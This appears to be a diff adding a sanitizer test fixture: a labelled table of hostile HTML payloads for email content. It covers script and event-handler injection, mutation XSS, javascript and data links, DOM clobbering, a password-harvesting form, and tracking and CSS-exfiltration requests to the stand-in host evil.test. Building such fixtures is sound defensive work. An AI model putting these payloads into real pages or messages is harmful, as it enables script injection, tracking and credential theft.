@@ -1,0 +1,31 @@
+const run = `parent.postMessage('ran','*')`;
+
+/** What letters have been sent with to run, to phone home or to deceive; each by what it tries. */
+export const hostileLetters: Readonly<Record<string, string>> = {
+  'a script': `<script>${run}</script>`,
+  'a script in a broken tag': `<<script>${run}//<</script>`,
+  'an event handler': `<img src=x onerror="${run}"><body onload="${run}"><div onmouseover="${run}">x</div>`,
+  'an SVG with a handler': `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
+  'an SVG use from elsewhere': `<svg><use href="https://evil.test/x.svg#a"/></svg>`,
+  'MathML mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  'a template with noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror=${run}></template>`,
+  'a javascript link': `<a href="java&#x0A;script:${run}">x</a><a href=" javascript:${run}">y</a>`,
+  'a data link': `<a href="data:text/html,<script>${run}</script>">x</a>`,
+  'a frame': `<iframe src="https://evil.test/" srcdoc="<script>${run}</script>"></iframe><object data="https://evil.test/"></object><embed src="https://evil.test/">`,
+  'a form that asks for the password': `<form action="https://evil.test/"><input name=p type=password autofocus onfocus="${run}"><button formaction="https://evil.test/">ok</button></form>`,
+  'a meta refresh': `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
+  'a base address': `<base href="https://evil.test/"><a href="x">x</a><img src="x.png">`,
+  'a style sheet from elsewhere': `<link rel=stylesheet href="https://evil.test/a.css"><style>@import "https://evil.test/b.css";</style>`,
+  prefetching: `<link rel=dns-prefetch href="//evil.test"><link rel=preload as=image href="https://evil.test/p.png"><link rel=prerender href="https://evil.test/">`,
+  'a tracking picture': `<img src="https://evil.test/open.gif" width=1 height=1><img srcset="https://evil.test/s.png 2x"><picture><source srcset="https://evil.test/t.png"><img src="https://evil.test/u.png"></picture>`,
+  'a background': `<table background="https://evil.test/bg.png"><tr><td style="background:url(https://evil.test/td.png)">x</td></tr></table>`,
+  'a font': `<style>@font-face{font-family:f;src:url(https://evil.test/f.woff2)}p{font-family:f}</style>`,
+  'CSS that escapes and reads attributes': `<style>p[title^="a"]{background:u\\72l(https://evil.test/leak)} :root{--x:url(https://evil.test/var)} p{list-style-image:var(--x);cursor:var(--x),auto}</style>`,
+  'a style that ends itself': `<style></style><img src=x onerror=${run}></style>`,
+  'sound and film': `<audio src="https://evil.test/a.mp3" autoplay></audio><video poster="https://evil.test/v.png"><source src="https://evil.test/v.mp4"></video>`,
+  'a comment that hides': `<!--[if mso]><script>${run}</script><![endif]--><!--><img src=x onerror=${run}>-->`,
+  'clobbered names': `<form id=document name=body><input id=cookie name=location></form><a id=window name=parent href="https://evil.test/">x</a>`,
+  'a ping': `<a href="https://good.test/" ping="https://evil.test/ping">x</a>`,
+  'an XML island': `<xml><x xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></x></xml>`,
+  'Content-ID that is no picture': `<img src="cid:x&quot; onerror=${run}"><img src="cid:%">`,
+};
